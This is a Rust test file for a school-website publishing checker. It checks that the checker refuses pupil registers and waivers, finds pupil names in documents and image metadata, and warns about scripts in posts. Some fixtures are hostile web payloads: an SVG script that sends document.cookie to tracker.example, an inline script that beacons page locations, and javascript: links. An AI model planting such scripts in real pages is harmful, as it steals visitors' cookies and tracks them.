//! See main.rs. Promise: every published file is a kind Schoolgate
//! understands and checks, or a kind the school allowed (and then checks);
//! private lists, and pictures and videos it cannot clean, are refused.

use std::io::Write;
use std::path::{Path, PathBuf};

use crate::common::*;

const BUNDLE: &str = "content/news/2026-07-10-sports-day";
const POST: &str = "content/news/2026-07-10-sports-day/index.md";

fn write(root: &Path, rel: &str, bytes: &[u8]) {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

/// Builds, expects `code`, and checks that the previous site is untouched
/// when the build did not pass. Returns the log.
fn expect(site: &Path, before: &[(PathBuf, Vec<u8>)], code: i32, extra: &[&str]) -> String {
    let out = build(site, extra);
    let log = text(&out);
    assert_eq!(out.status.code(), Some(code), "{log}");
    if code != 0 {
        assert_eq!(snapshot(&site.join("public")), before, "public/ changed after a refused build");
    }
    assert_no_surnames(&log);
    log
}

fn allow(site: &Path, kinds: &str) {
    let cfg = site.join("schoolgate.toml");
    let mut text = std::fs::read_to_string(&cfg).unwrap();
    text.push_str(&format!("\n[publish]\nallow = [{kinds}]\n"));
    std::fs::write(cfg, text).unwrap();
}

#[test]
fn register_copy_in_template_static_is_refused() {
    let (site, before) = built_site();
    let register = std::fs::read(site.path().join("private/register.csv")).unwrap();
    for (name, allowed) in [("pupils.csv", ""), ("pupils.csv", "\"csv\""), ("pupils.txt", "")] {
        let rel = format!("site-template/static/{name}");
        write(site.path(), &rel, &register);
        if !allowed.is_empty() {
            allow(site.path(), allowed);
        }
        let log = expect(site.path(), &before, 2, &[]);
        assert!(log.contains(name) && log.contains("cannot be published"), "{log}");
        std::fs::remove_file(site.path().join(&rel)).unwrap();
    }
    // A register copy renamed with an ordinary ending is still recognised
    // by its header.
    assert!(snapshot(&site.path().join("public")).iter().all(|(_, b)| !String::from_utf8_lossy(b).contains("ET001")));
}

#[test]
fn bundle_text_files_naming_a_pupil_fail_the_audit() {
    let (site, before) = built_site();
    let files: [(&str, &str); 4] = [
        ("notes.txt", "Well done to Aisha Khan for winning the relay!\n"),
        ("results.json", "{\"relay\": {\"winner\": \"Aisha Khan\", \"year\": 4}}\n"),
        ("results.toml", "[relay]\nwinner = \"Aisha Khan\"\n"),
        ("extra.html", "<p>Winner: <strong>Aisha</strong> Khan</p>\n"),
    ];
    for (name, body) in files {
        let rel = format!("{BUNDLE}/{name}");
        write(site.path(), &rel, body.as_bytes());
        let log = expect(site.path(), &before, 1, &[]);
        assert!(log.contains("names/full-name-in-document"), "{name}: {log}");
        std::fs::remove_file(site.path().join(&rel)).unwrap();
    }
}

#[test]
fn bundle_text_file_without_names_is_published() {
    let (site, _) = built_site();
    write(site.path(), &format!("{BUNDLE}/notes.txt"), b"Well done to everyone in Year 4 (and to Mrs Hughes).\n");
    let log = expect(site.path(), &[], 0, &[]);
    let published = site.path().join("public/news/sports-day/notes.txt");
    assert!(published.is_file(), "{log}");
}

#[test]
fn waivers_file_in_content_is_refused() {
    let (site, before) = built_site();
    // Named by the config but moved into content/.
    std::fs::rename(site.path().join("waivers.toml"), site.path().join("content/waivers.toml")).unwrap();
    edit(&site.path().join("schoolgate.toml"), "waivers = \"waivers.toml\"", "waivers = \"content/waivers.toml\"");
    let log = expect(site.path(), &before, 2, &[]);
    assert!(log.contains("waivers.toml"), "{log}");
    // A copy the config does not name is recognised by what it holds.
    std::fs::rename(site.path().join("content/waivers.toml"), site.path().join("waivers.toml")).unwrap();
    edit(&site.path().join("schoolgate.toml"), "waivers = \"content/waivers.toml\"", "waivers = \"waivers.toml\"");
    std::fs::copy(site.path().join("waivers.toml"), site.path().join("content/old-waivers.toml")).unwrap();
    let log = expect(site.path(), &before, 2, &[]);
    assert!(log.contains("old-waivers.toml") && log.contains("waivers"), "{log}");
}

#[test]
fn spreadsheets_need_allowing_and_are_checked_when_allowed() {
    let (site, before) = built_site();
    write(site.path(), &format!("{BUNDLE}/results.csv"), b"Race,Winner,House\nRelay,Aisha Khan,Red\n");
    let log = expect(site.path(), &before, 2, &[]);
    assert!(log.contains("results.csv") && log.contains("allow = [\"csv\"]"), "{log}");
    allow(site.path(), "\"csv\"");
    let log = expect(site.path(), &before, 1, &[]);
    assert!(log.contains("names/full-name-in-document"), "{log}");
    // Without the name, the allowed CSV is published.
    write(site.path(), &format!("{BUNDLE}/results.csv"), b"Race,Winner,House\nRelay,Year 4,Red\n");
    expect(site.path(), &before, 0, &[]);
    assert!(site.path().join("public/news/sports-day/results.csv").is_file());
}

/// A 1×1 GIF with an XMP application extension naming a pupil.
fn gif_with_xmp() -> Vec<u8> {
    let mut b = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff".to_vec();
    b.extend_from_slice(b"\x21\xff\x0bXMP DataXMP");
    b.extend_from_slice(b"<x:xmpmeta><Iptc4xmpExt:PersonInImage>Aisha Khan</Iptc4xmpExt:PersonInImage></x:xmpmeta>");
    b.extend_from_slice(b"\x00");
    b.extend_from_slice(b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00\x3b");
    b
}

/// An ISO media file header (HEIC, MP4, MOV share it), with a GPS-looking
/// payload after it.
fn ftyp(brand: &[u8; 4]) -> Vec<u8> {
    let mut b = vec![0, 0, 0, 0x18];
    b.extend_from_slice(b"ftyp");
    b.extend_from_slice(brand);
    b.extend_from_slice(&[0, 0, 0, 0]);
    b.extend_from_slice(brand);
    b.extend_from_slice(b"mif1");
    b.extend_from_slice(b"\0\0\0\x20meta GPS 51.5074N 0.1278W Aisha Khan");
    b
}

#[test]
fn pictures_and_videos_that_cannot_be_cleaned_are_refused() {
    let (site, before) = built_site();
    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><text x="0" y="5">Aisha Khan</text><script>fetch('https://tracker.example/?c='+document.cookie)</script></svg>"#;
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        // A GIF whose XMP cannot be read cannot be checked for people tags.
        ("finish-line.gif", gif_with_xmp(), "GIF file is damaged"),
        ("scan.tiff", b"II*\x00\x08\x00\x00\x00\x00\x00".to_vec(), "Export it as JPEG"),
        ("banner.svg", svg.to_vec(), "Export the drawing as PNG"),
        ("relay.heic", ftyp(b"heic"), "Export it as JPEG"),
        // MP4 and MOV are cleaned (crate::video), but one whose boxes
        // cannot be walked safely is refused, naming the file.
        ("relay.mp4", ftyp(b"isom"), "cannot clean this video safely"),
        ("relay.mov", ftyp(b"qt  "), "cannot clean this video safely"),
        ("relay.webm", vec![0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x86, 0x81, 0x01], "YouTube or Vimeo"),
        // Renamed to look like a photo or a text file: the bytes decide.
        ("renamed-heic.jpg", ftyp(b"heic"), "Export it as JPEG"),
        ("renamed-video.txt", ftyp(b"qt  "), "video saved under a name"),
        ("renamed-video.jpg", ftyp(b"isom"), "video saved under a name"),
    ];
    for (name, bytes, fix) in cases {
        let rel = format!("{BUNDLE}/{name}");
        write(site.path(), &rel, &bytes);
        // Allowing the kind does not let it through.
        let ext = name.rsplit('.').next().unwrap();
        allow(site.path(), &format!("\"{ext}\""));
        let log = expect(site.path(), &before, 2, &[]);
        assert!(log.contains(name), "{name}: {log}");
        assert!(log.contains(fix), "{name} should say {fix:?}: {log}");
        std::fs::remove_file(site.path().join(&rel)).unwrap();
        edit(&site.path().join("schoolgate.toml"), &format!("\n[publish]\nallow = [\"{ext}\"]\n"), "");
    }
}

#[test]
fn plain_svg_from_the_template_still_publishes() {
    let (site, _) = built_site();
    let public = site.path().join("public");
    assert!(public.join("favicon.svg").is_file() && public.join("images/logo.svg").is_file());
    assert!(public.join("css/site.css").is_file() && public.join("js/site.js").is_file());
}

#[test]
fn empty_jpeg_says_it_is_empty() {
    let (site, before) = built_site();
    write(site.path(), &format!("{BUNDLE}/blank.jpg"), b"");
    let log = expect(site.path(), &before, 2, &[]);
    assert!(log.contains("blank.jpg") && log.contains("empty"), "{log}");
    assert!(!log.contains("not a picture format"), "{log}");
}

#[test]
fn scripts_in_content_are_warned_about() {
    let (site, before) = built_site();
    let post = site.path().join(POST);
    let mut md = std::fs::read_to_string(&post).unwrap();
    md.push_str(
        "\n<script>new Image().src='https://counter.example/?p='+location</script>\n\n\
<p><span onclick=\"alert(1)\">Vote for us</span> or <a href=\" javascript:alert(2)\">click here</a></p>\n\n\
Or in Markdown: [claim your prize](javascript:steal\\(\\)).\n",
    );
    std::fs::write(&post, md).unwrap();
    let log = expect(site.path(), &before, 0, &[]);
    // A javascript: link is a script, not a "page that does not exist".
    assert!(!log.lines().any(|l| l.contains("javascript") && l.contains("does not exist")), "{log}");
    assert!(log.contains("2 javascript: links"), "the HTML and the Markdown link: {log}");
    for rule in ["scripts/inline-script", "scripts/event-handler", "scripts/javascript-link"] {
        assert_eq!(
            log.matches(rule).count(),
            1,
            "{rule} once, on the edited page only (template scripts are not content): {log}"
        );
    }
    // With warnings denied the deploy stops.
    let log = expect(site.path(), &snapshot(&site.path().join("public")), 1, &["--deny", "warnings"]);
    assert!(log.contains("scripts/inline-script"), "{log}");
}

#[test]
fn decoy_pages_without_content_scripts_are_not_warned_about() {
    let (site, _) = built_site();
    // Code club homework: script shown as code, a structured-data block, and
    // a link whose text (not address) mentions javascript:.
    let post = site.path().join(POST);
    let mut md = std::fs::read_to_string(&post).unwrap();
    md.push_str(
        "\nCode club wrote their first web page:\n\n```html\n<button onclick=\"cheer()\">Cheer</button>\n<script>function cheer() {}</script>\n```\n\n\
<script type=\"application/ld+json\">{\"@type\": \"Event\", \"name\": \"Sports day\"}</script>\n\n\
Read [javascript: a guide for parents](https://www.example.org/javascript-guide) too.\n",
    );
    std::fs::write(&post, md).unwrap();
    let log = expect(site.path(), &[], 0, &[]);
    // The template's own script (site.js in <head>) is on every page.
    assert!(std::fs::read_to_string(site.path().join("public/index.html")).unwrap().contains("<script"));
    assert!(!log.contains("scripts/"), "{log}");
}

/// A one-page PDF with `sixth` as object 6, referenced from the page
/// (`page_extra`) or the trailer (`trailer_extra`).
fn pdf(page_extra: &str, trailer_extra: &str, sixth: &str) -> Vec<u8> {
    let content = "BT /F1 12 Tf 72 720 Td (Sports day newsletter) Tj ET";
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_string(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_string(),
        format!(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R {page_extra} >>"
        ),
        format!("<< /Length {} >>\nstream\n{}\nendstream", content.len(), content),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>".to_string(),
        sixth.to_string(),
    ];
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{}\nendobj\n", i + 1, body).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for off in offsets {
        out.extend_from_slice(format!("{off:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!("trailer\n<< /Size {} /Root 1 0 R {trailer_extra} >>\nstartxref\n{xref}\n%%EOF\n", objects.len() + 1)
            .as_bytes(),
    );
    out
}

fn docx(parts: &[(&str, &str)]) -> Vec<u8> {
    let mut buf = std::io::Cursor::new(Vec::new());
    let mut zip = zip::ZipWriter::new(&mut buf);
    let opts = zip::write::SimpleFileOptions::default();
    for (name, body) in parts {
        zip.start_file(*name, opts).unwrap();
        zip.write_all(body.as_bytes()).unwrap();
    }
    zip.finish().unwrap();
    buf.into_inner()
}

const W: &str = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main""#;

#[test]
fn names_in_document_properties_and_comments_are_found() {
    let (site, before) = built_site();
    let body = format!(r#"<w:document {W}><w:body><w:p><w:r><w:t>Sports day</w:t></w:r></w:p></w:body></w:document>"#);
    let comments = format!(
        r#"<w:comments {W}><w:comment w:id="0" w:author="Office"><w:p><w:r><w:t>Check Aisha Khan's consent</w:t></w:r></w:p></w:comment></w:comments>"#
    );
    let core = r#"<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Aisha Khan relay</dc:title></cp:coreProperties>"#;
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("info.pdf", pdf("", "/Info 6 0 R", "<< /Title (Relay report) /Author (Aisha Khan) >>")),
        (
            "annotated.pdf",
            pdf(
                "/Annots [6 0 R]",
                "",
                "<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (Aisha Khan finished first) >>",
            ),
        ),
        ("comments.docx", docx(&[("word/document.xml", &body), ("word/comments.xml", &comments)])),
        ("properties.docx", docx(&[("word/document.xml", &body), ("docProps/core.xml", core)])),
    ];
    for (name, bytes) in cases {
        let rel = format!("{BUNDLE}/{name}");
        write(site.path(), &rel, &bytes);
        let log = expect(site.path(), &before, 1, &[]);
        assert!(log.contains("names/full-name-in-document"), "{name}: {log}");
        std::fs::remove_file(site.path().join(&rel)).unwrap();
    }
}

/// A small real JPEG with a comment (COM segment) naming a pupil.
fn jpeg_with_comment(comment: &str) -> Vec<u8> {
    let img = image::RgbImage::from_pixel(16, 16, image::Rgb([200, 120, 40]));
    let mut jpeg = Vec::new();
    image::codecs::jpeg::JpegEncoder::new(&mut jpeg).encode_image(&img).unwrap();
    let len = u16::try_from(comment.len() + 2).unwrap().to_be_bytes();
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xFE, len[0], len[1]]);
    out.extend_from_slice(comment.as_bytes());
    out.extend_from_slice(&jpeg[2..]);
    out
}

#[test]
fn name_in_jpeg_comment_is_found_and_never_published() {
    // A folder exported from another CMS: the comment is still in the file.
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "index.html", b"<!doctype html><html lang=\"en\"><head><title>Home</title></head><body><main><img src=\"relay.jpg\" alt=\"Relay race\"></main></body></html>");
    write(dir.path(), "relay.jpg", &jpeg_with_comment("Aisha Khan crossing the line"));
    let out = schoolgate()
        .arg("audit")
        .arg(dir.path())
        .arg("--register")
        .arg(fixture("sites/basic/private/register.csv"))
        .args(["--today", "2026-11-29", "--no-faces"])
        .output()
        .unwrap();
    let log = text(&out);
    assert_eq!(out.status.code(), Some(1), "{log}");
    assert!(log.contains("names/full-name-in-image-metadata"), "{log}");
    assert_no_surnames(&log);
    // Schoolgate's own build removes the comment before publishing.
    let (site, _) = built_site();
    write(site.path(), &format!("{BUNDLE}/comment.jpg"), &jpeg_with_comment("Aisha Khan crossing the line"));
    expect(site.path(), &[], 0, &[]);
    let published = std::fs::read(site.path().join("public/news/sports-day/comment.jpg")).unwrap();
    assert!(!String::from_utf8_lossy(&published).contains("Khan"), "comment published");
}
